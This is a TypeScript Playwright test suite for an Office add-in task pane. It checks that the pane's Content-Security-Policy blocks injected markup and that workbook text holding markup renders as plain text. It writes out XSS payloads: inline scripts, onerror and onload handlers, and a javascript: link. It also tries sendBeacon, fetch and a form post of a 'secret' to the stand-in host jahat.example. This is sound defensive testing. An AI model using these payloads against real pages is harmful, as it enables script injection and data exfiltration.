/**
 * What a workbook or a page of somebody ill-disposed can do in the pane: nothing. The policy of the built page refuses
 * what was injected into it; names and texts of the workbook are text; and no request goes anywhere else.
 */
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { createWorkbook } from '../../src/file';
import type { SheetSpec } from '../../src/core/patch/sheet-spec';
import { launchBrowser } from '../support/browser';
import { startDemo, type Demo } from '../support/demo';
import { openFile, paneOf } from '../support/demo-page';
import { buildForm } from '../support/form-builder';
import { REFERENCE_ROWS } from '../support/reference';

/** A real browser on a busy machine now and then loses a click; what fails thrice is broken. */
jest.retryTimes(2, { logErrorsBeforeRetry: true });

const ELSEWHERE = 'https://jahat.example';

let demo: Demo;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Every request, from page, pane and workers alike. */
let asked: { readonly url: string; readonly method: string }[] = [];

beforeAll(async () => {
  [demo, browser] = await Promise.all([startDemo(), launchBrowser()]);
}, 300_000);
afterAll(async () => {
  await browser.close();
  demo.close();
});
beforeEach(async () => {
  context = await browser.newContext({
    locale: 'id-ID',
    viewport: { width: 1400, height: 900 },
    acceptDownloads: true,
    reducedMotion: 'reduce',
  });
  asked = [];
  await context.route('**/*', async (route) => {
    const url = route.request().url();
    asked.push({ url, method: route.request().method() });
    if (url.startsWith(demo.address)) return route.fallback();
    // What is let through by mistake is to run, or the test would not see it.
    const body = url.endsWith('.js') ? `(window.ran ??= []).push('remote script')` : 'jahat';
    return route.fulfill({
      body,
      contentType: url.endsWith('.js') ? 'text/javascript' : 'text/html',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  page = await context.newPage();
});
afterEach(() => context.close());

declare global {
  interface Window {
    /** Which of the injected pieces ran. */
    ran?: string[];
    violations?: string[];
  }
}

const RAN = (what: string): string => `(window.ran ??= []).push('${what}')`;

const INJECTED = `
  <script>${RAN('inline script')}</script>
  <script src="${ELSEWHERE}/jahat.js"></script>
  <img src="x:" onerror="${RAN('inline handler')}">
  <svg onload="${RAN('handler of an svg')}"></svg>
  <a id="address" href="javascript:${RAN('javascript address')}">klik</a>
  <iframe src="${ELSEWHERE}/bingkai.html"></iframe>
  <object data="${ELSEWHERE}/benda.html"></object>
  <link rel="stylesheet" href="${ELSEWHERE}/gaya.css">
  <img src="${ELSEWHERE}/titik.png">
  <form id="form" method="post" action="${ELSEWHERE}/kirim"><input name="rahasia" value="1"></form>`;

/** The built page of the pane with pieces put into it, at its end, as somebody's text that was taken for markup would be. */
async function openInjected(withPolicy: boolean): Promise<{ policy: string }> {
  let policy = '';
  await context.route(/\/pane\/taskpane\.html$/, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]*)"[^>]*>/.exec(html);
    if (meta?.[1] === undefined) throw new Error('the page has no policy');
    policy = meta[1];
    const told = withPolicy ? html : html.replace(meta[0], '');
    await route.fulfill({ response, body: told.replace('</body>', `${INJECTED}</body>`) });
  });
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.violations?.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await page.goto(`${demo.address}/pane/taskpane.html`);
  return { policy };
}

/** What only a script can try: tried by one, and told with what became of it. */
async function tries(): Promise<Record<string, string>> {
  return page.evaluate(async (elsewhere) => {
    const outcome = async (work: () => unknown): Promise<string> => {
      try {
        const result = await work();
        return result === false ? 'refused' : 'done';
      } catch {
        return 'refused';
      }
    };
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="x:" onerror="(window.ran ??= []).push('handler put in later')">`,
    );
    const evaluate = globalThis.eval;
    const out = {
      // In a turn of its own: what the test itself evaluates may evaluate.
      eval: await outcome(
        () =>
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                resolve(evaluate('1'));
              } catch (refusal) {
                reject(refusal instanceof Error ? refusal : new Error(String(refusal)));
              }
            }, 0);
          }),
      ),
      fetch: await outcome(() => fetch(`${elsewhere}/ambil`)),
      request: await outcome(
        () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.open('GET', `${elsewhere}/minta`);
            request.onload = resolve;
            request.onerror = reject;
            request.send();
          }),
      ),
      socket: await outcome(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`${elsewhere.replace('https', 'wss')}/soket`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      ),
    };
    navigator.sendBeacon(`${elsewhere}/suar`, 'rahasia');
    document.querySelector<HTMLAnchorElement>('#address')?.click();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return out;
  }, ELSEWHERE);
}

const away = (): string[] =>
  asked
    .map(({ url }) => url)
    .filter((url) => !url.startsWith(`${demo.address}/`) && !/^(data|blob):/.test(url));

describe('the policy of the pane’s page', () => {
  test('lets nothing run that was injected, and nothing out', async () => {
    const { policy } = await openInjected(true);
    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com");
    expect(await tries()).toEqual({
      eval: 'refused',
      fetch: 'refused',
      request: 'refused',
      socket: 'refused',
    });
    await page.evaluate(() => {
      document.querySelector<HTMLFormElement>('#form')?.submit();
    });
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => window.ran ?? [])).toEqual([]);
    expect(away()).toEqual([]);
    const refused = await page.evaluate(() => window.violations ?? []);
    for (const directive of [
      'script-src-elem inline',
      `script-src-elem ${ELSEWHERE}/jahat.js`,
      'script-src-attr inline',
      'connect-src',
      'frame-src',
      'object-src',
      'style-src-elem',
      'img-src',
      'form-action',
    ])
      expect(refused).toContainEqual(expect.stringContaining(directive));
    expect(page.url()).toBe(`${demo.address}/pane/taskpane.html`);
  });

  test('is what refuses it: without the policy all of it runs', async () => {
    await openInjected(false);
    expect(await tries()).toMatchObject({ eval: 'done', fetch: 'done', request: 'done' });
    expect(await page.evaluate(() => window.ran ?? [])).toEqual(
      expect.arrayContaining([
        'inline script',
        'remote script',
        'inline handler',
        'handler of an svg',
        'handler put in later',
        'javascript address',
      ]),
    );
    expect(away()).toEqual(
      expect.arrayContaining(
        ['jahat.js', 'bingkai.html', 'benda.html', 'gaya.css', 'titik.png', 'ambil', 'minta', 'suar'].map(
          (name) => `${ELSEWHERE}/${name}`,
        ),
      ),
    );
  });
});

const IMAGE = '<img src=x onerror=alert(1)>';
const BOLD = '<b>tebal<b>';
const HANDLER = `<img src=x onerror="${RAN('markup of the workbook')}">`;
const SCRIPT = `<script>${RAN('markup of the workbook')}</script>`;

/** A form in which every text is markup: name of the sheet, programs, indicators, satuan, agency, figures. */
function hostileWorkbook(): Uint8Array {
  const rows = REFERENCE_ROWS.map((row) => ({
    ...row,
    uraian: `${row.uraian} ${HANDLER}`,
    indikator: `${row.indikator} <svg onload="${RAN('svg of the workbook')}">`,
    satuan: BOLD,
  }));
  const built = buildForm({}, rows);
  const [first = 0] = built.rows;
  const columns = built.columns['tw1'];
  const tw1 = Array.isArray(columns) ? String(columns[0]) : '';
  const form: SheetSpec = {
    ...built.spec,
    name: IMAGE,
    cells: built.spec.cells.map((cell) =>
      cell.row === first && cell.col === tw1.charCodeAt(0) - 64 ? { ...cell, value: `12 ${SCRIPT}` } : cell,
    ),
  };
  return createWorkbook([form, { name: BOLD, cells: [{ row: 1, col: 1, value: HANDLER }], styles: {} }]);
}

/** Elements that only the workbook's texts could have made. */
const made = (of: Page | Frame): Promise<string[]> =>
  of.evaluate(() =>
    [...document.querySelectorAll('img[src="x"], [onerror], [onload], script:not([src]), b')].map(
      ({ outerHTML }) => outerHTML.slice(0, 80),
    ),
  );

test('markup in names, programs, findings, samples and reasons is text, in pane and page', async () => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(demo.address);
  await paneOf(page);
  const frame = await openFile(page, `${IMAGE}.xlsx`, hostileWorkbook());
  await frame.getByRole('heading', { name: IMAGE }).waitFor();
  const look = async (view: string): Promise<void> => {
    expect([view, await made(frame), await made(page)]).toEqual([view, [], []]);
  };
  await frame.getByText(HANDLER).first().waitFor();
  await look('hitung');
  await frame.getByRole('tab', { name: 'Periksa' }).click();
  await frame.getByText(SCRIPT).first().waitFor();
  await frame.getByRole('button', { name: 'Abaikan' }).first().click();
  await frame.getByLabel('Alasan diabaikan').fill(HANDLER);
  await frame.getByRole('button', { name: 'Simpan', exact: true }).click();
  await frame.getByText('Diabaikan (1)').click();
  await frame.getByText(HANDLER).first().waitFor();
  await look('periksa');
  await frame.getByRole('button', { name: 'Bukan lembar ini?' }).click();
  await frame
    .getByText(new RegExp(`Contoh isi.*${HANDLER.slice(0, 11)}`))
    .first()
    .waitFor();
  await look('betulkan');
  await frame.getByRole('button', { name: 'Kembali', exact: true }).click();
  await frame.getByRole('tab', { name: 'LKjIP' }).click();
  await frame.getByText('Narasi:').waitFor();
  await look('lkjip');
  await frame.getByRole('tab', { name: 'Setelan' }).click();
  await look('setelan');
  await frame.getByRole('tab', { name: 'Hitung' }).click();
  await frame.getByRole('button', { name: /^Terapkan/ }).click();
  await frame.getByText(`sel ditulis di lembar "${IMAGE}".`).waitFor();
  await look('sesudah');
  expect([await page.evaluate(() => window.ran ?? []), await frame.evaluate(() => window.ran ?? [])]).toEqual(
    [[], []],
  );
  expect(dialogs).toEqual([]);
  expect(away()).toEqual([]);
});

test('a whole working day asks only for the page’s own files and office.js', async () => {
  await page.goto(demo.address);
  const frame = await paneOf(page);
  await frame.getByRole('button', { name: /^Terapkan/ }).click();
  await frame.getByText(/sel ditulis di lembar/).waitFor();
  await frame.getByRole('button', { name: 'Batalkan' }).click();
  await frame.getByText(/dikembalikan seperti semula/).waitFor();
  await frame.getByRole('tab', { name: 'Periksa' }).click();
  await frame
    .getByRole('button', { name: /^Ke sel/ })
    .first()
    .click();
  await frame.getByRole('tab', { name: 'LKjIP' }).click();
  await frame.getByRole('button', { name: /^Sisipkan atau perbarui semua/ }).click();
  await frame.getByText(/10 lembar disisipkan/).waitFor();
  await frame.getByRole('tab', { name: 'Setelan' }).click();
  await frame.getByLabel('Bahasa').selectOption('en');
  await frame.getByRole('heading', { name: 'Settings' }).waitFor();
  await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Simpan .xlsx' }).click(),
  ]);
  expect(asked.length).toBeGreaterThan(10);
  expect(away()).toEqual([]);
  // Nor does anything of the workbook go to the page's own server: its files are fetched, and nothing is sent.
  expect(asked.filter(({ url, method }) => method !== 'GET' || url.includes('?'))).toEqual([]);
  const folders = new Set(asked.map(({ url }) => /^http:\/\/[^/]*\/([\w-]*)\//.exec(url)?.[1] ?? ''));
  expect([...folders].sort()).toEqual(['', 'office-js', 'pane']);
});
